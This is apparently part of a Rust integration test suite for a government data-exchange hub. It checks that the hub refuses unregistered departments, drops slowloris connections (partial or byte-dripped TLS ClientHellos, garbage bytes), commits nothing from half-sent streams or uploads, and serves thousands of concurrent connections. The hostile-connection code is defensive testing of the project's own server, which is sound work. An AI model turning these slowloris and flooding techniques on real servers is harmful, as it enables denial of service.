    // The trail: a department asking for another's events sees only those that involve it.
    let mut samr_audit = Audit::new(w.samr.clone());
    let seen = audit_events(
        &mut samr_audit,
        pb::ListEventsRequest {
            actor: POLICE.into(),
            ..Default::default()
        },
    )
    .await;
    tally.calls += 1;
    for event in &seen {
        assert!(
            event.actor == SAMR || event.about == SAMR,
            "SAMR saw an event that does not involve it: {event:?}"
        );
    }

    // An unregistered department with a valid certificate gets nowhere.
    let health = w.hub.issue_dept(HEALTH).await;
    let health_channel = w.hub.channel(pki::department_files(&w.hub.pki_dir(), HEALTH)).await;
    drop(health);
    tally.check(
        "Fetch by an unregistered department",
        &Exchange::new(health_channel.clone()).fetch(fetch(&w.open, 0, 10)).await,
        denied,
    );
    tally.check(
        "RequestAccess by an unregistered department",
        &Access::new(health_channel.clone())
            .request_access(request_access(application(&w.cond, &["name"])))
            .await,
        denied,
    );
    tally.check(
        "GetScorecard by an unregistered department",
        &Evaluation::new(health_channel)
            .get_scorecard(pb::GetScorecardRequest::default())
            .await,
        denied,
    );
    tally.assert_all_right("other departments' resources");
    assert_eq!(w.everything().await, before, "a refused call changed the database");
    w.finish().await;
}

// ---------------------------------------------------------------------------------------------
// Slowloris connections

/// Waits until the hub closes `tcp` (end of stream or a reset); how long that took from `since`.
async fn closed_by_the_hub(mut tcp: tokio::net::TcpStream, since: Instant) -> Duration {
    use tokio::io::AsyncReadExt;
    let mut buffer = [0u8; 4096];
    loop {
        match tokio::time::timeout(STREAM_GUARD, tcp.read(&mut buffer)).await {
            Ok(Ok(0)) | Ok(Err(_)) => return since.elapsed(),
            // A TLS alert or the like before the close.
            Ok(Ok(_)) => continue,
            Err(_) => panic!("the hub kept a hostile connection open for {STREAM_GUARD:?}"),
        }
    }
}

/// The start of a TLS ClientHello: a record header claiming 512 bytes, then the handshake header
/// and version, and 32 bytes of "random"; never finished.
fn partial_client_hello() -> Vec<u8> {
    let mut hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03".to_vec();
    hello.extend([0x5a; 32]);
    hello
}

/// Connections that never finish a TLS handshake — silent, a partial ClientHello, a ClientHello
/// dripped a byte at a time, cleartext HTTP — are dropped once `limits.handshake_timeout_secs`
/// has passed (the garbage ones at once), while a registered client is served throughout.
async fn slowloris_connections_are_dropped(backend: Backend) {
    use tokio::io::AsyncWriteExt;
    const TIMEOUT: Duration = Duration::from_secs(1);
    let hub = TestHub::start_with(backend, |config| {
        config.limits.handshake_timeout_secs = TIMEOUT.as_secs()
    })
    .await;
    let connect = || tokio::net::TcpStream::connect(hub.addr);
    let opened = Instant::now();
    let mut slow = Vec::new();
    for _ in 0..10 {
        slow.push(("silent", connect().await.expect("connect")));
    }
    for _ in 0..10 {
        let mut tcp = connect().await.expect("connect");
        tcp.write_all(&partial_client_hello()).await.expect("write");
        slow.push(("a partial ClientHello", tcp));
    }
    let mut fast = Vec::new();
    for request in [
        &b"GET / HTTP/1.1\r\nHost: hub\r\n\r\n"[..],
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"\x16\x03\x01\x00\x05\xff\xff\xff\xff\xff",
        b"\x00\x00\x00\x00\x00\x00\x00\x00",
        b"SSH-2.0-OpenSSH_9.6\r\n",
    ] {
        let mut tcp = connect().await.expect("connect");
        tcp.write_all(request).await.expect("write");
        fast.push(tcp);
    }
    // Drippers: a byte of a ClientHello every 100 ms, for far longer than the timeout.
    let mut drips = Vec::new();
    for _ in 0..5 {
        let tcp = connect().await.expect("connect");
        let (mut read, mut write) = tcp.into_split();
        let dripping = tokio::spawn(async move {
            for byte in partial_client_hello().into_iter().cycle().take(200) {
                if write.write_all(&[byte]).await.is_err() {
                    return;
                }
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
        });
        drips.push(tokio::spawn(async move {
            use tokio::io::AsyncReadExt;
            let mut buffer = [0u8; 64];
            let closed = loop {
                match tokio::time::timeout(STREAM_GUARD, read.read(&mut buffer)).await {
                    Ok(Ok(0)) | Ok(Err(_)) => break opened.elapsed(),
                    Ok(Ok(_)) => continue,
                    Err(_) => panic!("the hub kept a dripping connection open for {STREAM_GUARD:?}"),
                }
            };
            dripping.abort();
            closed
        }));
    }

    // A registered client is served while all of them hang.
    let me = ok(hub.admin().await.who_am_i(pb::WhoAmIRequest {}).await);
    assert_eq!(me.identity, Some(pb::who_am_i_response::Identity::Admin(ADMIN.into())));
    ok(hub.dept(SAMR).await.search_entries(keyword("营业执照")).await);

    let mut calls = 0;
    for tcp in fast {
        closed_by_the_hub(tcp, opened).await;
        calls += 1;
    }
    for (what, tcp) in slow {
        let after = closed_by_the_hub(tcp, opened).await;
        assert!(
            after >= TIMEOUT - Duration::from_millis(50),
            "a connection with {what} was dropped after {after:?}, before the handshake timeout"
        );
        calls += 1;
    }
    for drip in drips {
        let after = drip.await.expect("the dripper");
        assert!(
            after >= TIMEOUT - Duration::from_millis(50) && after < Duration::from_secs(15),
            "a dripping ClientHello (20 s of bytes) was dropped after {after:?}"
        );
        calls += 1;
    }
    eprintln!("slowloris: {calls} hostile connections");
    ok(hub.dept(SAMR).await.who_am_i(pb::WhoAmIRequest {}).await);
    hub.finish().await;
}

// ---------------------------------------------------------------------------------------------
// Half-open streams and abandoned uploads

/// Waits until `done` holds, re-checking as other tasks run (no fixed sleep).
async fn eventually<F: Future<Output = bool>>(what: &str, mut done: impl FnMut() -> F) {
    let deadline = Instant::now() + STREAM_GUARD;
    while !done().await {
        assert!(
            Instant::now() < deadline,
            "{what} did not happen within {STREAM_GUARD:?}"
        );
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
}

/// The outcomes the trail records for `action` calls whose request ids start with `prefix`.
async fn outcomes(w: &World, action: &str, prefix: &str) -> Vec<String> {
    let all = pb::ListEventsRequest {
        action: action.into(),
        ..Default::default()
    };
    let events = audit_events(&mut Audit::new(w.admin.clone()), all).await;
    events
        .into_iter()
        .filter(|e| e.request_id.starts_with(prefix))
        .map(|e| e.outcome)
        .collect()
}

/// A client stream cut in the middle of a message and abandoned (reset, or its connection closed)
/// commits the whole messages before the cut and nothing of the cut one; unary calls left
/// half-sent, hundreds on one connection, hold up no one and store nothing once abandoned; a live
/// subscription abandoned by its reader is ended and recorded.
async fn half_open_streams_commit_nothing_partial(backend: Backend) {
    let w = World::start(backend).await;
    let mut calls = 0;
    let store = w.hub.store();
    let publish_stream = format!("{EXCHANGE}PublishStream");
    for (n, how) in ["reset", "closed its connection", "ended the request mid-message"]
        .into_iter()
        .enumerate()
    {
        let channel = w.hub.channel(pki::department_files(&w.hub.pki_dir(), SAMR)).await;
        let head = store
            .get_dataset(&w.open)
            .await
            .expect("dataset")
            .expect("open")
            .last_sequence;
        let serial = 300 + 10 * n as u64;
        let whole = companies(&w.open, &format!("half-open-{n}-a"), [serial, serial + 1]);
        let cut = companies(&w.open, &format!("half-open-{n}-b"), [serial + 2, serial + 3]);
        let request_id = format!("half-open-publish-{n}");
        let call = RawCall::start(&channel, &publish_stream, &request_id).await;
        call.send(frame(&prost::Message::encode_to_vec(&whole))).await;
        let cut_frame = frame(&prost::Message::encode_to_vec(&cut));
        call.send(cut_frame.slice(..cut_frame.len() / 2)).await;
        eventually("the whole batch commits", || async {
            let dataset = store.get_dataset(&w.open).await.expect("dataset");
            dataset.expect("open").last_sequence == head + 2
        })
        .await;
        let mut expected = vec!["OK"];
        let mut open_body = None;
        match how {
            "reset" => open_body = Some(call.abandon()),
            "closed its connection" => {
                open_body = Some(call.abandon());
                drop(channel);
            }
            _ => {
                // The client hears that its request was cut, after the answer to the whole batch.
                let (status, answered) = call.finish().await;
                assert_eq!(status.code(), Code::InvalidArgument, "{}", status.message());
                assert!(!answered.is_empty(), "the whole batch was answered");
                expected.push("INVALID_ARGUMENT");
            }
        }
        calls += 1;
        // The trail: the whole batch, and (for the cut request) the caller's fault, never the hub's.
        eventually("the stream's events are recorded", || async {
            outcomes(&w, "PublishStream", &request_id).await.len() >= expected.len()
        })
        .await;
        let recorded = outcomes(&w, "PublishStream", &request_id).await;
        assert_eq!(recorded, expected, "the trail of a stream whose client {how}");
        drop(open_body);
        // Nothing of the cut batch was committed: sending it now is its first commit.
        let again = ok(Exchange::new(w.samr.clone()).publish(cut).await);
        assert_eq!(
            (again.accepted, again.replayed),
            (2, false),
            "the cut batch was not committed"
        );
        assert_eq!(again.first_sequence, head + 3);
    }

    // 190 unary calls left half-sent on one connection, each a CreateEntry cut in the middle: close
    // to the 200 streams a connection may hold open at once (more wait for one to end).
    let before = w.everything().await;
    let crowded = w.hub.channel(pki::department_files(&w.hub.pki_dir(), SAMR)).await;
    let entry = prost::Message::encode_to_vec(&create(content("半截条目", "102001", "半截")));
    let half = frame(&entry).slice(..entry.len() / 2);
    let mut hanging = Vec::new();
    for n in 0..HANGING {
        let call = RawCall::start(&crowded, &format!("{DIRECTORY}CreateEntry"), &format!("hanging-{n}")).await;
        call.send(half.clone()).await;
        hanging.push(call);
    }
    calls += hanging.len();
    // Others are served, and so is a new call on the crowded connection itself.
    w.still_serving().await;
    ok(Directory::new(crowded.clone()).who_am_i(pb::WhoAmIRequest {}).await);
    let open_bodies: Vec<_> = hanging.into_iter().map(RawCall::abandon).collect();
    drop(crowded);
    assert_eq!(
        w.everything().await,
        before,
        "an abandoned half-sent call stored something"
    );
    // The hub saw those calls end without a whole request: the caller's doing, not the hub's.
    let mut tally = Tally::default();
    if !tally.known_bug("the trail of abandoned half-sent calls") {
        eventually("the abandoned calls are recorded", || async {
            outcomes(&w, "CreateEntry", "hanging-").await.len() == HANGING
        })
        .await;
        for outcome in outcomes(&w, "CreateEntry", "hanging-").await {
            assert!(
                outcome != "INTERNAL" && outcome != "UNKNOWN",
                "an abandoned half-sent call is recorded as {outcome}"
            );
        }
    }
    tally.assert_all_right("half-open streams (the trail)");
    drop(open_bodies);

    // A subscriber that stops reading and goes away: its stream is ended and recorded.
    let mut subscribe = tonic::Request::new(subscribe_as(&w.open, 0, PURPOSE, ""));
    subscribe
        .metadata_mut()
        .insert("x-request-id", "abandoned-subscription".parse().expect("ascii"));
    let mut stream = ok(Exchange::new(w.hrss.clone()).subscribe(subscribe).await);
    assert!(stream.message().await.expect("a batch").is_some());
    drop(stream);
    calls += 1;
    eventually("the abandoned subscription's end is recorded", || async {
        let events = audit_events(
            &mut Audit::new(w.admin.clone()),
            pb::ListEventsRequest {
                action: "Subscribe".into(),
                ..Default::default()
            },
        )
        .await;
        events
            .iter()
            .any(|e| e.request_id == "abandoned-subscription" && e.detail.contains("\"phase\":\"end\""))
    })
    .await;
    eprintln!("half-open streams: {calls} hostile calls");
    w.finish().await;
}

/// An upload abandoned in the middle of a chunk — by a reset, a closed connection, or a request
/// ended there — keeps exactly the whole chunks it received, completes nothing, is recorded as
/// the caller's doing, and resumes from there to the right file.
async fn abandoned_uploads_keep_whole_chunks_only(backend: Backend) {
    let w = World::start(backend).await;
    let mut calls = 0;
    let store = w.hub.store();
    let upload_chunks = format!("{EXCHANGE}UploadChunks");
    let bytes: Vec<u8> = (0..1000u32).map(|i| (i % 251) as u8).collect();
    for (n, how) in ["reset", "closed its connection", "ended the request mid-chunk"]
        .into_iter()
        .enumerate()
    {
        let mut samr = Exchange::new(w.samr.clone());
        let file_name = format!("abandoned-{n}.bin");
        let started = ok(samr
            .start_upload(pb::StartUploadRequest {
                dataset: w.files.clone(),
                file_name: file_name.clone(),
                size: bytes.len() as u64,
                sha256: sha256_hex(&bytes),
            })
            .await);
        let id = started.upload_id;
        let chunk = |from: usize, to: usize| pb::FileChunk {
            upload_id: id.clone(),
            offset: from as u64,
            data: bytes[from..to].to_vec(),
        };
        assert_eq!(
            ok(samr.upload_chunks(tokio_stream::iter(vec![chunk(0, 400)])).await).received,
            400
        );

        let channel = w.hub.channel(pki::department_files(&w.hub.pki_dir(), SAMR)).await;
        let request_id = format!("abandoned-upload-{n}");
        let call = RawCall::start(&channel, &upload_chunks, &request_id).await;
        call.send(frame(&prost::Message::encode_to_vec(&chunk(400, 600)))).await;
        let cut = frame(&prost::Message::encode_to_vec(&chunk(600, 800)));
        call.send(cut.slice(..cut.len() / 2)).await;
        eventually("the whole chunk is appended", || async {
            store.get_upload(&id).await.expect("upload").expect("started").received == 600
        })
        .await;
        let mut open_body = None;
        match how {
            "reset" => open_body = Some(call.abandon()),
            "closed its connection" => {
                open_body = Some(call.abandon());
                drop(channel);
            }
            _ => {
                let (status, _) = call.finish().await;
                assert_eq!(status.code(), Code::InvalidArgument, "{}", status.message());
            }
        }
        calls += 1;
        // The call ended for the hub too, and the trail has it: the whole chunks were taken (a
        // reset reads as the end of the stream), and a request cut mid-chunk is the caller's fault.
        let event = audited(&w, "UploadChunks", &request_id).await;
        let expected = if how.starts_with("ended") {
            "INVALID_ARGUMENT"
        } else {
            "OK"
        };
        assert_eq!(event.outcome, expected, "the trail of an upload whose client {how}");
        drop(open_body);

        let status = ok(samr
            .get_upload_status(pb::GetUploadStatusRequest { upload_id: id.clone() })
            .await);
        assert_eq!(
            (status.received, status.complete),
            (600, false),
            "only whole chunks count"
        );
        let mut hrss = Exchange::new(w.hrss.clone());
        let unfinished = first_message(hrss.download_file(download_as(&w.files, &file_name, PURPOSE, "")).await).await;
        assert_eq!(code_of(&unfinished), Code::NotFound, "an unfinished upload is no file");
        // Resuming anywhere but at 600 is refused; at 600 it completes the file.
        refused(
            samr.upload_chunks(tokio_stream::iter(vec![chunk(400, 1000)])).await,
            Code::FailedPrecondition,
        );
        calls += 1;
        let done = ok(samr.upload_chunks(tokio_stream::iter(vec![chunk(600, 1000)])).await);
        assert!(done.complete && done.sequence > 0);
        let mut download = ok(hrss.download_file(download_as(&w.files, &file_name, PURPOSE, "")).await);
        let (messages, error) = drain(&mut download).await;
        assert!(error.is_none(), "{error:?}");
        let received: Vec<u8> = messages.into_iter().flat_map(|m| m.data).collect();
        assert_eq!(received, bytes, "the resumed file is the file");
    }

    // An upload started and abandoned before any byte stays empty and incomplete, and a chunk
    // past its declared size is refused.
    let mut samr = Exchange::new(w.samr.clone());
    let started = ok(samr
        .start_upload(pb::StartUploadRequest {
            dataset: w.files.clone(),
            file_name: "never.bin".into(),
            size: 10,
            sha256: sha256_hex(&[1; 10]),
        })
        .await);
    let too_much = pb::FileChunk {
        upload_id: started.upload_id.clone(),
        offset: 0,
        data: vec![1; 11],
    };
    refused(
        samr.upload_chunks(tokio_stream::iter(vec![too_much])).await,
        Code::ResourceExhausted,
    );
    calls += 1;
    let status = ok(samr
        .get_upload_status(pb::GetUploadStatusRequest {
            upload_id: started.upload_id,
        })
        .await);
    assert_eq!((status.received, status.complete), (0, false));
    eprintln!("abandoned uploads: {calls} hostile calls");
    w.finish().await;
}

/// A valid CreateEntry request, to frame wrongly.
fn create_request_for_framing() -> pb::CreateEntryRequest {
    create(content("框架测试", "102001", "框架"))
}

// ---------------------------------------------------------------------------------------------
// Many concurrent connections

/// The soft limit on this process's open files (Linux `/proc/self/limits`), 1024 when unknown.
fn open_file_limit() -> u64 {
    std::fs::read_to_string("/proc/self/limits")
        .ok()
        .and_then(|limits| {
            limits
                .lines()
                .find(|line| line.starts_with("Max open files"))
                .and_then(|line| line.split_whitespace().nth(3))
                .and_then(|soft| soft.parse().ok())
        })
        .unwrap_or(1024)
}

/// One connection test at a time: together the SQLite and PostgreSQL runs would need twice the
/// descriptors.
static MANY_CONNECTIONS: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());

/// Most connections the test opens: the hardening issue names 10,000, but a debug build on two
/// cores completes about 330 mutual-TLS handshakes a second (client and hub in one process, both
/// ends of each handshake), and the test is to stay well under 30 s.
const MAX_CONNECTIONS: u64 = 4_000;

/// As many mutual-TLS connections as the file limit allows (at most [`MAX_CONNECTIONS`]), all open
/// at once, each making a call while the others stay open: every call is answered, and a new
/// client is served while they are open.
async fn many_concurrent_connections_are_served(backend: Backend) {
    use tonic::transport::{Certificate, ClientTlsConfig, Endpoint, Identity};
    let _alone = MANY_CONNECTIONS.lock().await;
    let hub = TestHub::start_on(backend).await;
    // Each connection costs this process two descriptors (the client's end and the hub's); the
    // rest of the limit stays for the other tests of this binary, the database and the PKI.
    let connections = (open_file_limit().saturating_sub(3000) / 2).clamp(100, MAX_CONNECTIONS) as usize;
    let started = Instant::now();
    let dir = hub.pki_dir();
    let files = pki::department_files(&dir, SAMR);
    let read = |path: &std::path::Path| std::fs::read(path).expect("read a PEM file");
    let tls = ClientTlsConfig::new()
        .ca_certificate(Certificate::from_pem(read(&pki::ca_cert_path(&dir))))
        .identity(Identity::from_pem(read(&files.cert), read(&files.key)));
    let endpoint = Endpoint::from_shared(hub.url())
        .expect("hub URL")
        .tls_config(tls)
        .expect("TLS config")
        .connect_timeout(STREAM_GUARD);

    // Handshakes at most 200 at a time (more only waits in the listen backlog); every connection
    // stays open.
    let mut channels = Vec::with_capacity(connections);
    let mut handshakes = tokio::task::JoinSet::new();
    for _ in 0..connections {
        if handshakes.len() >= 200 {
            channels.push(handshakes.join_next().await.expect("a handshake").expect("its task"));
        }
        let endpoint = endpoint.clone();
        handshakes.spawn(async move { endpoint.connect().await.expect("a mutual-TLS connection") });
    }
    while let Some(channel) = handshakes.join_next().await {
        channels.push(channel.expect("its task"));
    }
    let connected = started.elapsed();

    // Every connection makes a call while all are open, 250 calls in flight at a time: more
    // would only queue for the hub's 16 database connections (a wait past the pool's 5 s is
    // UNAVAILABLE, the hub's back-pressure, not what this test is about).
    let mut calls = tokio::task::JoinSet::new();
    let mut answered = 0;
    let mut answer = |result: Result<Result<(), Status>, tokio::task::JoinError>| {
        if let Err(status) = result.expect("the call's task") {
            panic!("a call on one of {connections} connections failed: {status:?}");
        }
        answered += 1;
    };
    for channel in &channels {
        if calls.len() >= 250 {
            answer(calls.join_next().await.expect("a call"));
        }
        let mut directory = Directory::new(channel.clone());
        calls.spawn(async move { directory.who_am_i(pb::WhoAmIRequest {}).await.map(drop) });
    }
    while let Some(result) = calls.join_next().await {
        answer(result);
    }
    assert_eq!(answered, connections);
    // A newcomer is served while all of them are open.
    ok(hub.dept(POLICE).await.who_am_i(pb::WhoAmIRequest {}).await);
    eprintln!(
        "concurrent connections: {connections} (open-file limit {}), connected in {connected:?}, all answered after {:?}",
        open_file_limit(),
        started.elapsed()
    );
    drop(channels);
    hub.finish().await;
}
